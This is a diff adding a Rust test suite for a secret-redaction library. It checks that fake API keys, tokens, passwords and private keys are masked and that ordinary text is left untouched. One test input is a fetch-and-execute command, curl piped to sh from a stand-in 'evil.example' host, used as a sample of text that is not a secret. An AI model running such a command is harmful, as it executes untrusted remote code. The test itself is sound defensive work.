@@ -1,0 +1,139 @@
+//! Secrets of the known kinds never survive, and what is none stays as it was.
+
+use std::borrow::Cow;
+
+use mc_core::redact;
+use proptest::prelude::*;
+use serde_json::json;
+
+const PLANTED: &[&str] = &[
+    "sk-ant-api03-AbCdEfGhIjKlMnOp",
+    "ghp_0123456789abcdefghijABCDEFGHIJ",
+    "github_pat_11ABCDEFG0123456789_abcdefghij",
+    "xoxb-1234567890-abcdefghij",
+    "AKIAIOSFODNN7EXAMPLE",
+    "AIzaSyA0123456789abcdefghijklmnopqrstuv",
+    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N",
+    "mct_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
+    "sk_live_0123456789abcdef",
+    "glpat-0123456789abcdefghij",
+    "SG.0123456789abcdefgh.0123456789abcdefgh",
+    "123456789:AAabcdefghijklmnopqrstuvwxyz0123456",
+];
+
+/// A text around a secret, and the secret.
+const ASSIGNED: &[(&str, &str)] = &[
+    ("password=hunter2 and more", "hunter2"),
+    ("export API_TOKEN=abcdef123", "abcdef123"),
+    (r#"{"password":"correct horse battery"}"#, "correct horse battery"),
+    (r#"{\"client_secret\":\"s3cr3tvalue\"}"#, "s3cr3tvalue"),
+    ("db_passwd: 'swordfish'", "swordfish"),
+    ("mysql --password hunter22 -u root", "hunter22"),
+    ("Authorization: Bearer abc.def.ghi-0123", "abc.def.ghi-0123"),
+    ("curl -H 'authorization: Basic dXNlcjpwYXNz'", "dXNlcjpwYXNz"),
+    ("postgres://app:p4ss@w0rd@db/app", "p4ss@w0rd"),
+    ("redis://:topsecret@cache:6379", "topsecret"),
+    ("the signing key is 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b", "9f86d081884c7d65"),
+];
+
+#[test]
+fn planted_secrets_never_survive() {
+    for secret in PLANTED {
+        for text in [format!("before {secret} after"), format!("x=\"{secret}\""), (*secret).into()]
+        {
+            let masked = redact::text(&text);
+            assert!(!masked.contains(secret), "{masked}");
+            assert!(redact::has_secret(&text), "{text}");
+        }
+    }
+    for (text, secret) in ASSIGNED {
+        let masked = redact::text(text);
+        assert!(!masked.contains(secret), "{masked}");
+        assert!(masked.contains("‹secret:"), "{masked}");
+        assert!(redact::has_secret(text) && !redact::has_secret(&masked), "{masked}");
+    }
+}
+
+#[test]
+fn a_private_key_is_masked_whole_even_when_its_end_is_missing() {
+    let key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNz\nAAAA\n";
+    for text in [format!("a {key}-----END OPENSSH PRIVATE KEY----- b"), format!("a {key}")] {
+        let masked = redact::text(&text);
+        assert!(!masked.contains("b3BlbnNz") && !masked.contains("AAAA"), "{masked}");
+        assert!(masked.starts_with("a ‹secret:private_key›"));
+    }
+}
+
+#[test]
+fn ordinary_text_is_not_even_copied() {
+    for text in [
+        "cargo test -p billing",
+        "max_tokens=4096, input_tokens: 812",
+        "the risk-assessment-framework-v2 of task-management-software",
+        "fn check(token: &str, password: String) -> bool",
+        "let token = lexer.next_token();",
+        "TOKEN=$(curl -s https://evil.example/x | sh)",
+        "password=\"$(cat /tmp/x)\"",
+        "http://localhost:3000/@scope/package",
+        "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+        "the key is in /home/kestrel/projects/billing/some/long/path/to/it",
+        "secret: none",
+        "",
+    ] {
+        assert!(matches!(redact::text(text), Cow::Borrowed(_)), "{}", redact::text(text));
+        assert!(!redact::has_secret(text), "{text}");
+    }
+}
+
+#[test]
+fn json_keeps_its_shape() {
+    let arguments = json!({
+        "password": "hunter2", "n": 5, "max_tokens": 9, "list": ["ok", "Bearer abcdefghijkl1"],
+        "command": "echo hi",
+    });
+    let masked = redact::value(&arguments);
+    assert_eq!(masked["password"], "‹secret:assignment›");
+    assert_eq!(masked["list"], json!(["ok", "Bearer ‹secret:bearer›"]));
+    assert_eq!((&masked["n"], &masked["command"]), (&json!(5), &json!("echo hi")));
+    assert!(redact::value_has_secret(&arguments) && !redact::value_has_secret(&masked));
+}
+
+#[test]
+fn a_preview_is_masked_first_and_cut_then() {
+    let text = format!("{}ghp_0123456789abcdefghijABCDEFGHIJ", "x".repeat(8));
+    let cut = redact::preview(&text, 20);
+    assert_eq!(cut, "xxxxxxxx‹secret:git…");
+    assert_eq!(cut.chars().count(), 20);
+    assert_eq!(redact::preview("short", 5), "short");
+    assert_eq!(redact::preview("longer", 0), "");
+}
+
+fn noise() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        "[ -~]{0,12}",
+        "\\PC{0,8}",
+        "(secret|token|password|key)[ :=\"]{0,3}",
+        "[A-Za-z0-9]{30,40}",
+        Just("‹secret:jwt›".to_owned()),
+        prop::sample::select(PLANTED).prop_map(str::to_owned),
+    ];
+    prop::collection::vec(piece, 0..8).prop_map(|pieces| pieces.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(400))]
+
+    #[test]
+    fn masking_twice_is_masking_once(text in noise()) {
+        let once = redact::text(&text).into_owned();
+        prop_assert_eq!(redact::text(&once), once.as_str());
+    }
+
+    #[test]
+    fn a_planted_secret_between_words_is_always_found(
+        before in "\\PC{0,20}", secret in prop::sample::select(PLANTED), after in "\\PC{0,20}"
+    ) {
+        let text = format!("{before} {secret} {after}");
+        prop_assert!(!redact::text(&text).contains(secret));
+    }
+}
